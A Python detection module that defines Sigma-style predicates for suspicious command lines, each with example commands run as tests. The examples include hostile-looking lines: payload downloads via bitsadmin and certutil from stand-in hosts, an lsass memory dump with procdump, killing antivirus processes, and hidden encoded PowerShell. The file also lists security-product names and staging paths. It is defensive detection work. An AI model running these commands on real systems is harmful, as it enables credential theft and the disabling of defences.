"""What an attacker's command means, whatever its program → predicates that Sigma can say, one row each, with examples.

``usual`` and ``kept`` are judgements made before a fleet is asked (see ``Predicate``); the fleet's own use corrects the
first. Every row's examples run as tests.
"""

from dataclasses import dataclass

from longtail.detections.predicates import Item, Predicate, contains, ends, flags, matches

_SCHEMES = ("http://", "https://", "ftp://", "ftps://", "tftp://")
_NOT_127 = (*(f"12{digit}" for digit in ".012345689"), *(f"1{digit}" for digit in ".013456789"))
_ELSEWHERE = (*"23456789", *_NOT_127)
"""How an address by number begins that is not the machine's own, 127.0.0.0/8 or 0.0.0.0."""
_FIRST_ELSEWHERE = "[1-9]|[1-9][0-9]|1[013-9][0-9]|12[0-689]|2[0-9][0-9]"
_PUBLIC = (
    r"([1-9]|1[1-9]|[2-9][0-9]|1[013-58][0-9]|12[0-689]|16[0-8]|17[013-9]|19[013-9]|2[01][0-9]|22[0-3])\.[0-9]"
    r"|169\.([0-9]{1,2}|1[0-9]{2}|2[0-4][0-9]|25[0-35-9])\."
    r"|172\.([0-9]|1[0-5]|3[2-9]|[4-9][0-9]|[12][0-9]{2})\."
    r"|192\.([0-9]{1,2}|1[0-57-9][0-9]|16[0-79]|2[0-9]{2})\."
)
"""How an address by number begins that no private, local or loopback network has (RFC 1918, 3927, 1122)."""
_WINDOW_STYLES = ("w", "wi", "win", "wind", "windo", "window", "windowstyle")
LONG_ENCODED = 100
"""Characters of base64 that are taken for encoded code."""

SHARED_WRITABLE = (
    "\\users\\public",
    "\\windows\\temp",
    "\\windows\\tasks",
    "\\windows\\tracing",
    "\\windows\\debug",
    "\\windows\\fonts",
    "\\windows\\help\\",
    "\\windows\\media\\",
    "\\windows\\registration\\crmlog",
    "\\system32\\tasks",
    "\\system32\\spool\\drivers\\color",
    "\\system32\\spool\\printers",
    "\\system32\\microsoft\\crypto\\rsa\\machinekeys",
    "\\perflogs\\",
    "\\$recycle.bin",
    "\\recovery\\",
    ":\\intel\\",
    ":\\temp\\",
    ":\\tmp\\",
    "\\programdata\\",
    "\\docume~1\\alluse~1",
    "\\documents and settings\\all users",
    "\\progra~3\\",
    "%public%",
    "%temp%",
    "%tmp%",
    "%programdata%",
    "%allusersprofile%",
    "$env:public",
    "$env:temp",
    "$env:tmp",
    "$env:programdata",
    "/users/public/",
    "/windows/temp/",
    "/programdata/",
)
PROFILE = (
    "\\appdata\\",
    "\\local settings\\temp",
    "\\downloads\\",
    "\\desktop\\",
    "\\documents\\",
    "%userprofile%",
    "$env:userprofile",
    "%appdata%",
    "%localappdata%",
    "$env:appdata",
    "$env:localappdata",
    "/appdata/",
)
UNIX_WRITABLE = ("/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/run/user/")
PROGRAM_ENDINGS = (
    ".exe", ".dll", ".scr", ".com", ".pif", ".bat", ".cmd", ".ps1", ".vbs", ".vbe", ".js", ".jse", ".wsf", ".hta",
    ".msi", ".cpl", ".sct",
)  # fmt: skip
_POSING = ("doc", "docx", "xls", "xlsx", "ppt", "pptx", "pdf", "rtf", "txt", "csv", "jpg", "jpeg", "png", "gif", "zip")
_POSED = ("exe", "scr", "com", "pif", "bat", "cmd", "js", "vbs", "hta", "lnk", "ps1")
SECURITY_PRODUCTS = (
    "360rp", "360sd", "360tray", "360safe", "zhudongfangyu", "msmpeng", "mssense", "nissrv", "windefend", "avp.exe",
    "avgsvc", "avastsvc", "ekrn", "egui", "savservice", "sophos", "mcshield", "mfemms", "ccsvchst", "rtvscan",
    "ntrtscan", "tmlisten", "csfalcon", "sentinelagent", "cbdefense", "repux", "cylancesvc", "bdagent", "mbamservice",
    "kxetray", "ksafe", "qqpctray", "f-secure", "fshoster", "sysmon", "elastic-endpoint", "cortex", "traps",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Meaning:
    """A predicate, and the command lines it is tested with: two that mean it, two that look like it and do not."""

    predicate: Predicate
    has: tuple[str, str]
    has_not: tuple[str, str]


_ABOUT = {
    "remote": "where", "url": "where", "url_by_number": "where", "url_by_public_number": "where",
    "share_by_number": "where", "address": "where", "writable": "place", "unix_writable": "place",
}  # fmt: skip


def _row(
    said: tuple[str, str], items: Item | tuple[Item, ...], odds: tuple[float, float], *examples: tuple[str, str]
) -> Meaning:
    name, says = said
    among = items if isinstance(items, tuple) else (items,)
    return Meaning(Predicate(name, says, among, *odds, about=_ABOUT.get(name, name)), *examples)


GENERAL: tuple[Meaning, ...] = (
    _row(
        ("remote", "names a remote place"),
        contains(*_SCHEMES, "\\\\"),
        (0.3, 0.97),
        ("bitsadmin /transfer n http://1.2.3.4/a.exe c:\\a.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
        ("certutil -dump a.cer", "copy c:\\a d:\\b"),
    ),
    _row(
        ("url", "names a remote address"),
        contains(*_SCHEMES),
        (0.15, 0.92),
        ("certutil -urlcache -f https://a.example/x", "mshta HTTP://a.example/x.hta"),
        ("certutil -dump a.cer", "copy \\\\a\\b c:\\d"),
    ),
    _row(
        ("url_by_number", "names an address by number"),
        contains(*(f"://{begins}" for begins in _ELSEWHERE)),
        (0.03, 0.45),
        ("curl -o a http://203.0.113.9:8080/a", "mshta https://8.8.8.8/x.hta"),
        ("curl http://127.0.0.1:8080/health", "ping 10.1.2.3"),
    ),
    _row(
        ("url_by_public_number", "names a public address by number"),
        matches(f"://({_PUBLIC})"),
        (0.01, 0.42),
        ("curl -o a http://203.0.113.9:8080/a", "mshta https://172.32.8.8/x.hta"),
        ("curl http://10.1.1.5/repo/agent.deb", "curl -s http://169.254.169.254/latest/meta-data"),
    ),
    _row(
        ("share_by_number", "names a share by number"),
        contains(*(f"\\\\{begins}" for begins in _ELSEWHERE)),
        (0.08, 0.7),
        ("copy \\\\203.0.113.9\\a\\b c:\\d", "rundll32 \\\\10.0.0.9\\a\\x.dll,y"),
        ("copy \\\\127.0.0.1\\c$\\a c:\\d", "certutil -dump c:\\a\\1.cer"),
    ),
    _row(
        ("address", "names a machine by number"),
        matches(rf"[^0-9.]({_FIRST_ELSEWHERE})\.[0-9]{{1,3}}\.[0-9]{{1,3}}\.[0-9]{{1,3}}"),
        (0.12, 0.4),
        ("cmd /c echo open 198.51.100.7>So.2", "ssh -R 1:127.0.0.1:3389 a@203.0.113.9"),
        ("curl http://0.0.0.0:1/1.2/a.zip", "plink -R 9000:127.0.0.1:9000 a@b"),
    ),
    _row(
        ("writable", "names a user-writable place"),
        contains(*SHARED_WRITABLE, *PROFILE),
        (0.25, 0.85),
        ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", "certutil -f x %TEMP%\\a"),
        ("certutil -dump c:\\certs\\a.cer", "dir C:\\Windows\\System32"),
    ),
    _row(
        ("unix_writable", "names a user-writable place"),
        contains(*UNIX_WRITABLE),
        (0.25, 0.9),
        ("wget -q http://a/b -O /tmp/x", "sh -c '/dev/shm/.a/x &'"),
        ("ls /usr/bin", "tar xz -C /srv/app"),
    ),
    _row(
        ("names_program", "names a program or script as its target"),
        (
            ends(*PROGRAM_ENDINGS, *(f'{ending}"' for ending in PROGRAM_ENDINGS), field="CommandLine"),
            contains(*(f"{ending}'" for ending in PROGRAM_ENDINGS)),
        ),
        (0.1, 0.6),
        ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", 'copy a "c:\\b c.dll"'),
        ("bitsadmin /transfer n http://a/b.zip d:\\b.zip", "certutil.exe -dump a.cer"),
    ),
    _row(
        ("encoded", "carries a long encoded text"),
        matches(rf"[A-Za-z0-9+/]{{{LONG_ENCODED}}}"),
        (0.1, 0.8),
        ("powershell -enc " + "aGVsbG8gd29ybGQ" * 8, "sh -c 'echo " + "QUJDREVG" * 14 + " | base64 -d'"),
        ("powershell -enc short", "ping -n 1 127.0.0.1"),
    ),
    _row(
        ("double_ending", "names a program that poses as a document"),
        contains(*(f".{posing}.{posed}" for posing in _POSING for posed in _POSED)),
        (0.001, 0.9),
        ("cmd /c start invoice.pdf.exe", "wscript C:\\Temp\\photo.jpg.vbs"),
        ("C:\\App\\my.service.exe", "tar xf backup.txt.gz"),
    ),
    _row(
        ("security_product", "names a security product's process or service"),
        contains(*SECURITY_PRODUCTS),
        (0.003, 0.7),
        ("taskkill  /im 360rp.exe /f", "ntsd -c q -pn 360sd.exe"),
        ("taskkill /im excel.exe /f", "net stop spooler"),
    ),
    _row(
        ("inner_shell", "has another program run a shell"),
        contains(
            " cmd /c ", " cmd.exe /c ", '"cmd /c ', '"cmd.exe /c ', "'cmd /c ", '"/c ', "\\cmd.exe /c ", "cmd.exe -a ",
            '"powershell ', "'powershell ", '"powershell.exe ',
        ),
        (0.03, 0.8),
        ('C:\\Temp\\x.exe -i -c "cmd /c whoami"', "wmic process call create \"cmd.exe /c a\""),
        ("powershell -File C:\\jobs\\a.ps1", "notepad cmd.txt"),
    ),
    _row(
        ("hidden_window", "hides its window"),
        flags(*(f" -{name} {value}" for name in _WINDOW_STYLES for value in ("hidden", "1"))),
        (0.04, 0.75),
        ("powershell -nop -w hidden -enc a", "powershell /WindowStyle Hidden -c a"),
        ("powershell -nop -c a", "cmd /c echo hidden"),
    ),
    _row(
        ("lsass", "names the process that keeps the credentials"),
        contains("lsass"),
        (0.003, 0.9),
        ("procdump64.exe -accepteula -ma lsass.exe a.dmp", "powershell (Get-Process lsass).Id"),
        ("procdump -ma sqlservr.exe", "tasklist"),
    ),
    _row(
        ("mining", "speaks of a mining pool"),
        contains("stratum+tcp", "stratum+ssl", "--donate-level", "--coin=", "cryptonight", "randomx", "xmrig"),
        (0.0005, 0.9),
        ("x.exe -o stratum+tcp://pool:3333 -u 4a", "a.exe --donate-level=1"),
        ("donate.exe --level=1", "stratum.exe"),
    ),
    _row(
        ("as_system", "asks to be run as the system"),
        flags(' -ru system', ' -ru "system', ' -ru "nt authority', " -ru nt authority"),
        (0.1, 0.6),
        ("schtasks /create /tn a /tr b /RU SYSTEM", 'schtasks -create -ru "NT AUTHORITY\\SYSTEM"'),
        ("schtasks /create /tn a /tr b", "run system"),
    ),
    _row(
        ("quiet_licence", "accepts a licence without being asked"),
        flags(" -accepteula"),
        (0.2, 0.7),
        ("procdump64.exe -accepteula -ma lsass.exe a.dmp", "psexec /AcceptEula \\\\a cmd"),
        ("psexec \\\\a cmd", "setup /quiet"),
    ),
)  # fmt: skip
"""What may be meant by any program's command line."""
